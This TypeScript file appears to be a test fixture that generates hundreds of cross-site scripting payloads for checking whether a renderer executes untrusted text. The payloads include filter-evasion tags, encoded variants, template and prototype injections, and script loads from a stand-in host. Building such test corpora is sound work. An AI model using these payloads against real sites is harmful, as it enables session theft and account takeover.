/** What a payload calls if it is executed. */
export const xssMark = 'xssMark'

export interface Payload {
  /** Occurs in the payload alone: by it the text is found. */
  readonly id: string
  readonly text: string
}

type Vector = (act: string, id: string) => string

const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onwheel',
]
const opened = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'a']

/** Tags with handlers, in the ways of writing them that filters miss. */
const tags: readonly Vector[] = opened.flatMap((tag) =>
  handlers.flatMap((handler): Vector[] => [
    (act) => `<${tag} ${handler}=${act}>`,
    (act) => `<${tag}/${handler}="${act}">`,
    (act) => `<${tag.toUpperCase()} ${handler.toUpperCase()} = '${act}'`,
  ]),
)

const protocols = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'vbscript:', 'data:text/html,']
const carriers: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">open</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button>go</button></form>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<svg><a xlink:href="${url}"><text y=20>x</text></a></svg>`,
  (url) => `[open](${url})`,
  (url) => `![picture](${url})`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
]
const links: readonly Vector[] = protocols.flatMap((protocol) =>
  carriers.map(
    (carry): Vector =>
      (act) =>
        carry(`${protocol}${act}`),
  ),
)

/** Ends what the text may stand in. */
const endings = [
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '-->',
  ']]>',
  '</script>',
  '</title>',
  '</textarea>',
]
const escapes: readonly Vector[] = endings.flatMap((end): Vector[] => [
  (act) => `${end}<script>${act}</script>`,
  (act) => `${end} autofocus onfocus=${act} x=`,
  (act) => `${end};${act}//`,
  (act) => `${end}<img src=x onerror=${act}>`,
])

const encodings: readonly ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3e;'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', String.raw`\u003c`).replaceAll('>', String.raw`\u003e`),
  (text) => text.replaceAll('<', String.raw`\x3c`),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll(/(?!^)/g, '\u200b'),
]
const encoded: readonly Vector[] = encodings.flatMap((encode): Vector[] => [
  (act) => encode(`<script>${act}</script>`),
  (act) => encode(`<img src=x onerror=${act}>`),
])

/** Templates, CSS, SVG, MathML, foreign content and prototypes. */
const others: readonly Vector[] = [
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `\${${act}}`,
  (act) => `#{${act}}`,
  (act) => `<%= ${act} %>`,
  (act) => `<template><script>${act}</script></template>`,
  (act) => `<style>@import 'javascript:${act}';</style>`,
  (act) => `<div style="background:url(javascript:${act})">`,
  (act) => `<p style=animation-name:spin onanimationstart=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<svg><foreignObject><iframe srcdoc="<script>${act}</script>"></foreignObject></svg>`,
  (act) => `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>">`,
  (act) => `<script src=https://xss.invalid/${act}></script>`,
  (_act, id) => `<img src=https://xss.invalid/${id}.png>`,
  (_act, id) => `<link rel=stylesheet href=https://xss.invalid/${id}.css>`,
  (_act, id) => `<base href=https://xss.invalid/${id}/>`,
  (act) => `<x is=script>${act}</x>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<!--<img src="--><img src=x onerror=${act}//">`,
  (act) => `{"__proto__":{"innerHTML":"<img src=x onerror=${act}>"}}`,
  (act) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${act}>"}}`,
  (act) => `=HYPERLINK("javascript:${act}","open")`,
  (act) => `<embed src="javascript:${act}">`,
]

/** Attacks on code that shows a text as anything but text. Each runs once and carries an id of its own. */
export const xssPayloads: readonly Payload[] = [
  ...tags,
  ...links,
  ...escapes,
  ...encoded,
  ...others,
].map((vector, index) => {
  const id = `x${String(index).padStart(4, '0')}x`
  return { id, text: `${id} ${vector(`${xssMark}('${id}')`, id)}` }
})
